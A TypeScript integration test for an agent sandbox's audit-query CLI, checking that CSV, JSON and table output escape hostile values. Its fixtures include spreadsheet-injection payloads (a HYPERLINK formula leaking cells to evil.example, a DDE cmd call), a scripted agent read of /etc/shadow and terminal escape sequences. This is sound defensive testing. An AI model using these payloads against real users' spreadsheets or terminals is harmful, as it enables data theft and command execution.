// `ironcurtain audit query --format table|json|csv` and `--summary` (issue 19, item 5) as real processes against a
// running `ironcurtain up` stack. Its trail comes from real sessions (`ironcurtain start`: a scripted model behind
// the real egress, the real PDP, gateway, MCP servers and audit-writer; an escalation answered with `ironcurtain
// approve`), plus the records of people's sessions appended on the PDP's own login, among them tool errors that
// start like spreadsheet formulas (what an MCP server turned by the agent can answer). CSV and JSON are parsed back
// and checked against the trail files.
import { randomUUID } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectBus, request, type Bus } from '@ironcurtain/bus';
import { errorCodeOf } from '@ironcurtain/errors';
import { AuditAppend, connectionNameOf, type Principal, type RequestOf } from '@ironcurtain/proto-schemas';
import { renderInTerminal, type FakeLlmRequest, type FakeLlmServer } from '@ironcurtain/testing';
import { queryPages } from '../src/commands/audit/audit-query.js';
import { summarizeAuditRecords } from '../src/domain/audit/audit-summary.js';
import { hostileText } from './hostile-text.js';
import { jsonLines } from './policy-fixture.js';
import { lastUserText, startFakeUpstream, toolResultsSinceUser } from './session-fixture.js';
import * as stack from './stack-process.js';

type Row = Record<string, string>;
type Trailed = Record<string, unknown> & { kind: string; policyDecision: { status: string; rule: string } };
type RecordInput = RequestOf<typeof AuditAppend>['record'];

/** Tool errors a spreadsheet would run as formulas; the CSV must show each as text, `'` in front. */
const formulaErrors = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "+cmd|' /C calc'!A0", '-2+3'];
formulaErrors.push('@SUM(1+1)', '\t=1+1', '\r=1+1');
const formulaFile = '=HYPERLINK("https:evil.example","invoice").txt';
const read = (path: string) =>
  `try { filesystem.read_text_file({ path: ${JSON.stringify(path)} }); } catch {}`;
const write = (path: string, content: string) =>
  `try { filesystem.write_file({ path: ${JSON.stringify(path)}, content: ${JSON.stringify(content)} }); } catch {}`;
/** What each session's agent does, by the first word of its task. */
const scripts: Record<string, string[]> = {
  notes: [write('notes.txt', 'hello'), read('notes.txt'), read('/etc/shadow'), read('+missing, "file".txt')],
  hostile: [write(formulaFile, '@SUM(1+1)'), write('screen.txt', hostileText)],
  repository: [
    "git.git_init({ path: '.', initialBranch: 'main' });",
    "git.git_remote({ path: '.', mode: 'add', name: 'origin', url: 'https://github.com/example/notes.git' });",
  ],
};
function reply(fake: FakeLlmRequest) {
  const script = scripts[lastUserText(fake.body).split(' ')[0] ?? ''];
  if (toolResultsSinceUser(fake.body) > 0 || script === undefined) return { text: 'Done.' };
  return { toolCalls: [{ name: 'execute_code', input: { code: `${script.join('\n')}\nreturn 'ok';` } }] };
}

/** RFC 4180 read back independently of the CLI: quoted fields, doubled quotes, commas and line feeds in them. */
function parseCsv(text: string): Row[] {
  const records: string[][] = [];
  let [record, field, isQuoted] = [[] as string[], '', false];
  for (let index = 0; index < text.length; index += 1) {
    const character = text.charAt(index);
    if (isQuoted && character === '"' && text[index + 1] === '"') [field, index] = [`${field}"`, index + 1];
    else if (character === '"' && (isQuoted || field === '')) isQuoted = !isQuoted;
    else if (isQuoted || (character !== ',' && character !== '\n')) field += character;
    else [record, field] = [[...record, field], ''];
    if (!isQuoted && character === '\n') [records[records.length], record] = [record, []];
  }
  expect([isQuoted, field, record], 'the CSV ends with a whole record').toEqual([false, '', []]);
  const [header = [], ...rows] = records;
  for (const row of rows) expect(row).toHaveLength(header.length);
  return rows.map((row) => Object.fromEntries(header.map((name, column) => [name, row[column] ?? ''])));
}

let home: string;
let environment: Record<string, string>;
let upstream: FakeLlmServer;
let up: stack.CliProcess | undefined;
let bus: Bus;
/** Every record of every session, read from the trail files: the truth the answers are checked against. */
let trail: Trailed[];
const stackHome = () => environment['IRONCURTAIN_HOME'] ?? '';
const query = (args: readonly string[]) => stack.runCli(['audit', 'query', ...args], environment);
async function connectAs(principal: Principal): Promise<Bus> {
  const url = (await stack.readStackFile(stackHome()))?.natsUrl ?? '';
  const login = await stack.stackLoginOf(stackHome(), principal);
  return connectBus({ url, name: connectionNameOf(principal), ...login });
}

/** A call of `userId` as the PDP records it: its decision and, unless denied, its outcome. */
function callRecords(sessionId: string, userId: string, toolName: string, ending: 'denied' | 'ran' | Error) {
  const isAllowed = ending !== 'denied';
  const rule = isAllowed ? 'allow-notes' : 'default-deny';
  const policyDecision = { status: isAllowed ? 'allow' : 'deny', rule, reason: 'scripted' } as const;
  const common = { requestId: randomUUID(), sessionId, userId, serverName: 'filesystem', toolName };
  const now = () => ({ timestamp: new Date().toISOString(), policyHash: '', policyDecision });
  const decision: RecordInput = { kind: 'decision', ...common, ...now(), arguments: { path: '/notes/a' } };
  if (!isAllowed) return [decision];
  const result = ending === 'ran' ? { status: 'success' as const } : { status: 'error' as const };
  const error = ending instanceof Error ? { error: ending.message } : {};
  return [decision, { kind: 'outcome', ...common, ...now(), result: { ...result, ...error }, durationMs: 3 }];
}

async function appendPeopleRecords(): Promise<void> {
  const pdp = await connectAs('policy-decision-point');
  const calls = [
    ...['read_file', 'read_file', 'write_file'].map((tool) =>
      callRecords('people-alice', 'alice', tool, 'ran'),
    ),
    callRecords('people-alice', 'alice', 'read_file', 'denied'),
    ...formulaErrors.map((text) => callRecords('people-bob', 'bob', 'read_file', new Error(text))),
    callRecords('people-bob', 'bob', 'write_file', 'denied'),
    // A trail from before people had pinned names: the user id was whatever the client sent.
    callRecords('people-old', '@SUM(1+1)', 'write_file', 'ran'),
  ];
  for (const record of calls.flat()) await request(pdp, AuditAppend, { record: record as RecordInput });
  await pdp.close();
}

async function runSession(task: string, onTicket?: (ticketId: string) => Promise<void>): Promise<void> {
  const start = stack.startCli(['start', task], environment);
  const ticket = onTicket && (await start.waitForOutput(/\(ticket (esc_[0-9a-f]+)\)/, 60_000));
  if (ticket) await onTicket?.(ticket[1] ?? '');
  expect((await start.exited).code, start.output()).toBe(0);
}

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'ironcurtain-audit-formats-'));
  ({ upstream, environment } = await startFakeUpstream(home, reply));
  up = stack.startCli(['up'], environment);
  await up.waitForOutput(/IronCurtain is up/, 60_000);
  await runSession('notes for the week.');
  await runSession('hostile names in files.');
  await runSession('repository with a remote.', async (ticketId) => {
    const approve = await stack.runCli(['approve', ticketId], environment);
    expect(approve.code, approve.stderr).toBe(0);
  });
  await appendPeopleRecords();
  const folder = join(stackHome(), 'sessions');
  const trails = (await readdir(folder)).map((name) => readFile(join(folder, name, 'audit.jsonl'), 'utf8'));
  trail = (await Promise.all(trails)).flatMap((text) => jsonLines(text) as Trailed[]);
  bus = await connectAs('cli');
}, 240_000);

afterAll(async () => {
  await bus?.close();
  const state = await stack.readStackFile(stackHome());
  await stack.killLeftovers(up, state === undefined ? [] : stack.pidsOf(state));
  await upstream?.close();
  await rm(home, { recursive: true, force: true });
});

const has = (fields: Record<string, string>) => (record: Trailed) =>
  Object.entries(fields).every(([field, value]) => record[field] === value);
const idsOf = (records: readonly Record<string, unknown>[]) =>
  records.map((record) => `${String(record['sessionId'])}#${String(record['seq'])}`).sort();
async function csvOf(args: readonly string[]): Promise<Row[]> {
  const run = await query([...args, '--format', 'csv']);
  expect(run.code, run.stderr).toBe(0);
  return parseCsv(run.stdout);
}

describe('audit query --format json and csv', () => {
  it('prints every record as JSON lines that are the records, and as CSV rows that read back to them', async () => {
    const json = await query(['--format', 'json', '--limit', '1000']);
    const records = jsonLines(json.stdout) as Trailed[];
    expect(records.map((record) => record['hash']).sort()).toEqual(
      trail.map((record) => record['hash']).sort(),
    );
    expect((await query(['--json', '--limit', '1000'])).stdout).toBe(json.stdout);
    const csv = await query(['--format', 'csv', '--limit', '1000']);
    expect(csv.stdout.slice(0, csv.stdout.indexOf('\n'))).toBe(
      'timestamp,sessionId,seq,requestId,kind,userId,serverName,toolName,decision,rule,reason,escalationResult,' +
        'approver,autoApproved,whitelistApproved,outcome,error,durationMs,refusal,arguments',
    );
    const rows = parseCsv(csv.stdout);
    expect(rows).toHaveLength(records.length);
    for (const [index, row] of rows.entries()) {
      const { timestamp, sessionId, requestId, toolName, kind, seq, ...record } = records[index] as Trailed;
      expect(row).toMatchObject({ timestamp, sessionId, requestId, toolName, kind, seq: String(seq) });
      expect([row['decision'], row['rule']]).toEqual([
        record.policyDecision.status,
        record.policyDecision.rule,
      ]);
      if (kind === 'outcome') expect(row['outcome']).toBe((record['result'] as { status: string }).status);
      else expect(JSON.parse(row['arguments'] ?? '')).toEqual(record['arguments']);
      for (const cell of Object.values(row)) expect(cell, 'a formula cell').not.toMatch(/^[=+\-@\t\r]/);
    }
    const approved = rows.filter((row) => row['escalationResult'] === 'approved');
    expect(approved).toMatchObject([
      { toolName: 'git_remote', decision: 'allow', approver: userInfo().username },
    ]);
  });

  it('shows values that start like formulas as text, and quotes commas, quotes and line feeds', async () => {
    const csv = await query(['--format', 'csv', '--session', 'people-bob', '--kind', 'outcome']);
    const shown = formulaErrors.map((error) => `'${error.replace('\t', '\\x09').replace('\r', '\\x0d')}`);
    expect(parseCsv(csv.stdout).map((row) => row['error'])).toEqual(shown);
    expect(csv.stdout).toContain(',"\'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",');
    const old = await csvOf(['--session', 'people-old']);
    expect(old.map((row) => row['userId'])).toEqual(["'@SUM(1+1)", "'@SUM(1+1)"]);
    const rows = await csvOf(['--limit', '1000']);
    const invoice = rows.find((row) => row['kind'] === 'decision' && row['arguments']?.includes('invoice'));
    expect(JSON.parse(invoice?.['arguments'] ?? '{}')).toMatchObject({
      path: expect.stringMatching(/\/=HYPERLINK\("https:evil\.example","invoice"\)\.txt$/),
      content: '@SUM(1+1)',
    });
    const missing = rows.find((row) => row['kind'] === 'outcome' && row['error']?.includes('missing'));
    expect(missing?.['error']).toMatch(
      /^ENOENT: no such file or directory, open '.*\/\+missing, "file"\.txt'$/,
    );
  });

  it('shows terminal escapes from a file as visible escapes in every format, inert in a terminal', async () => {
    const rows = await csvOf(['--limit', '1000']);
    const screen = rows.find((row) => row['arguments']?.includes('screen.txt'))?.['arguments'] ?? '{}';
    expect(screen).toContain('title\\u001b]0;pwned-title\\u0007 clipboard\\u001b]52;c;');
    expect(JSON.parse(screen)).toMatchObject({ content: hostileText });
    for (const format of ['csv', 'json', 'table']) {
      const run = await query(['--format', format, '--tool', 'write_file', '--limit', '1000']);
      if (format !== 'table') expect(run.stdout).toMatch(/pwned-title/); // the table shows no arguments
      const shown = await renderInTerminal(run.stdout, { cols: 4000 });
      expect([shown.effects, shown.hasDefaultModes, shown.scrollsNormally], format).toEqual([[], true, true]);
    }
  });
});

describe('audit query filters, in each format', () => {
  it.each([
    [['--user', 'alice'], has({ userId: 'alice' })],
    [['--decision', 'deny'], (record: Trailed) => record.policyDecision.status === 'deny'],
    [['--server', 'git', '--tool', 'git_remote'], has({ serverName: 'git', toolName: 'git_remote' })],
    [['--rule', 'default-deny'], (record: Trailed) => record.policyDecision.rule === 'default-deny'],
    [['--session', 'people-bob', '--kind', 'outcome'], has({ sessionId: 'people-bob', kind: 'outcome' })],
    [['--user', 'alice', '--tool', 'git_remote'], () => false],
  ])('%j', async (args, matches) => {
    const expected = trail.filter(matches);
    const json = jsonLines((await query([...args, '--format', 'json'])).stdout);
    expect(idsOf(json)).toEqual(idsOf(expected));
    expect(idsOf(await csvOf(args))).toEqual(idsOf(json));
    const table = await query(args);
    expect(table.stdout.split('\n')).toHaveLength(expected.length + 2);
    expect(table.stderr).toBe(expected.length === 0 ? 'no matching records\n' : '');
  });

  it('takes --since up to, not including, --until, and --limit', async () => {
    const times = [...new Set(trail.map((record) => String(record['timestamp'])))].sort();
    const [since, until] = [times[2] as string, times[times.length - 3] as string];
    const isInRange = (time: string) => time >= since && time < until;
    const rows = await csvOf(['--since', since, '--until', until, '--limit', '1000']);
    expect(idsOf(rows)).toEqual(idsOf(trail.filter((record) => isInRange(String(record['timestamp'])))));
    expect(await csvOf(['--since', since, '--until', until, '--limit', '3'])).toEqual(rows.slice(0, 3));
  });
});

/** The summary counted here from trail records, independently of the CLI: equal calls ordered by name. */
function expectedSummary(records: readonly Trailed[], top: number) {
  const calls = records.filter((record) => record.kind === 'decision');
  const count = (matches: (record: Trailed) => boolean) => records.filter(matches).length;
  const by = (keyOf: (record: Trailed) => string | null) => {
    const rows = new Map<string | null, { key: string | null; calls: number; [status: string]: unknown }>();
    for (const call of calls) {
      const row = rows.get(keyOf(call)) ?? { key: keyOf(call), calls: 0, allow: 0, deny: 0, escalate: 0 };
      const status = call.policyDecision.status;
      rows.set(keyOf(call), { ...row, calls: row.calls + 1, [status]: Number(row[status]) + 1 });
    }
    const name = (row: { key: string | null }) => row.key ?? '\uffff'; // no user: last
    const byName = (left: { key: string | null }, right: { key: string | null }) =>
      name(left) < name(right) ? -1 : 1;
    const sorted = [...rows.values()].sort((left, right) => right.calls - left.calls || byName(left, right));
    return { distinct: rows.size, top: sorted.slice(0, top) };
  };
  const decided = (status: string) =>
    count((record) => record.kind === 'decision' && record.policyDecision.status === status);
  const ended = (status: string) =>
    count((record) => (record['result'] as { status?: string })?.status === status);
  const answered = (result: string) => count((record) => record['escalationResult'] === result);
  return {
    records: records.length,
    kinds: { decision: calls.length, outcome: count((record) => record.kind === 'outcome'), verifier: 0 },
    decisions: { allow: decided('allow'), deny: decided('deny'), escalate: decided('escalate') },
    escalations: { approved: answered('approved'), denied: answered('denied') },
    outcomes: { success: ended('success'), error: ended('error') },
    tools: by((record) => `${String(record['serverName'])}.${String(record['toolName'])}`),
    users: by((record) => (record['userId'] as string | undefined) ?? null),
    rules: by((record) => record.policyDecision.rule),
  };
}

describe('audit query --summary', () => {
  it('counts the records by decision, tool, user and rule as the trail has them (JSON), filtered or not', async () => {
    const all = JSON.parse(
      (await query(['--summary', '--format', 'json', '--top', '100'])).stdout,
    ) as unknown;
    const times = trail.map((record) => String(record['timestamp'])).sort();
    expect(all).toMatchObject({ ...expectedSummary(trail, 100), from: times[0], to: times.at(-1) });
    expect(all).toMatchObject({ escalations: { approved: 1, denied: 0 } });
    const bob = JSON.parse((await query(['--summary', '--user', 'bob', '--json'])).stdout) as unknown;
    expect(bob).toMatchObject(expectedSummary(trail.filter(has({ userId: 'bob' })), 10));
    expect(bob).toMatchObject({ decisions: { allow: 6, deny: 1 }, outcomes: { success: 0, error: 6 } });
  });

  it('keeps the top N, and prints CSV with the formula defence and a table a person reads', async () => {
    const rows = await csvOf(['--summary', '--top', '2', '--decision', 'allow']);
    const expected = expectedSummary(
      trail.filter((record) => record.policyDecision.status === 'allow'),
      2,
    );
    const cell = (group: string, key: string) =>
      rows.find((row) => row['group'] === group && row['key'] === key);
    expect(cell('records', 'all')?.['count']).toBe(String(expected.records));
    expect(cell('distinct', 'user')?.['count']).toBe(String(expected.users.distinct));
    for (const [group, name] of Object.entries({ tool: 'tools', rule: 'rules' } as const)) {
      const shown = rows.filter((row) => row['group'] === group);
      expect(shown.map(({ key, count, allow }) => [key, Number(count), Number(allow)])).toEqual(
        expected[name].top.map(({ key, calls, allow }) => [key, calls, allow]),
      );
    }
    const users = (await csvOf(['--summary', '--top', '50'])).filter((row) => row['group'] === 'user');
    expect(users.map((row) => row['key'])).toEqual(expect.arrayContaining(['alice', 'bob', "'@SUM(1+1)"]));

    const table = (await query(['--summary', '--top', '3'])).stdout;
    const { records, kinds, decisions, users: people } = expectedSummary(trail, 3);
    expect(table).toContain(`records: ${records} (${kinds.decision} decisions, ${kinds.outcome} outcomes, `);
    const [allow, deny] = [decisions.allow, decisions.deny].map((value) => String(value).padStart(5));
    expect(table).toContain(`\nDECISION  CALLS\nallow     ${allow}\ndeny      ${deny}\nescalate      0\n`);
    expect(table).toMatch(
      /\nTOOL \(top 3 of \d+\) +CALLS +ALLOW +DENY +ESCALATE\n\S+\.\w+ +\d+ +\d+ +\d+ +\d+\n/,
    );
    expect(table).toContain(`USER (top 3 of ${people.distinct})`);
  });

  it('refuses past its bound of records instead of counting part of them', async () => {
    const all = trail.length;
    const exact = await summarizeAuditRecords(queryPages(bus, {}, 'asc', all + 1), {
      top: 3,
      maxRecords: all,
    });
    expect(exact.records).toBe(all);
    const pages = queryPages(bus, {}, 'asc', all);
    const refused = await summarizeAuditRecords(pages, { top: 3, maxRecords: all - 1 }).catch(
      (error: unknown) => error,
    );
    expect(errorCodeOf(refused)).toBe('TOO_MANY_RECORDS');
    expect(String(refused)).toMatch(
      /more than \d+ records match: a summary reads at most that many\. Narrow/,
    );
  });
});

describe('audit query refuses bad values with exit code 2, before it connects', () => {
  it.each([
    [['--format', 'xml'], '--format "xml" is not a format: give table, json or csv'],
    [['--summary', '--top', '0'], '--top "0" must be a whole number of 1 or more'],
    [['--top', '3'], '--top goes with --summary'],
    [['--limit', 'many'], '--limit "many" must be a whole number of 1 or more'],
    [['--since', '2026-11-24T12:00:00Z', '--until', '2026-11-24T11:00:00Z'], '.000Z) is not before --until'],
    [['--since', '1h', '--until', '2h'], 'give the earlier time to --since'],
    [['--json', '--format', 'csv'], '--json is --format json: give one of --json and --format csv'],
    [['--summary', '--newest-first'], '--summary counts every matching record: leave out --newest-first'],
    [['--decision', 'perhaps'], '--decision'],
  ])('%j', async (args, message) => {
    const unreachable = { ...environment, NATS_URL: 'nats://127.0.0.1:1' };
    const run = await stack.runCli(['audit', 'query', ...args], unreachable);
    expect([run.code, run.stdout, run.stderr.startsWith('ironcurtain: ')]).toEqual([2, '', true]);
    expect(run.stderr).toContain(message);
  });
});
